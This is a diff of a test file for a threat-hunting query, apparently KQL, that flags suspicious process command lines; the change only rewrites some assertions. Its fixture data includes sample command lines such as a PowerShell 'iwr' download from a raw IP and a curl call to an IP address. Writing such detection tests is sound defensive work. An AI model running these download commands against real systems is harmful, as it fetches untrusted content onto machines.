@@ -117,9 +117,9 @@ describe("the project's hunting query, exactly as written", () => {
     expect(byLine.get('curl 93.184.216.34:443')).toMatchObject({ IP: '93.184.216.34' });
     expect(byLine.get('powershell -c iwr 45.67.89.123 -o x')).toMatchObject({ Host_count: 2, EventCount: 2 });
     // PowerShell_ISE.exe matches in~ case-insensitively; notepad.exe is not hunted; 4624 is not a process creation.
-    expect(byLine.has('x 198.51.100.23 y')).toBe(true);
-    expect(byLine.has('notepad 45.67.89.124 x')).toBe(false);
-    expect(byLine.has('cmd 45.67.89.125 x')).toBe(false);
+    expect([...byLine.keys()]).toContain('x 198.51.100.23 y');
+    expect([...byLine.keys()]).not.toContain('notepad 45.67.89.124 x');
+    expect([...byLine.keys()]).not.toContain('cmd 45.67.89.125 x');
     expect(result.rows[0]![0]).toBe(2);
   });
 });
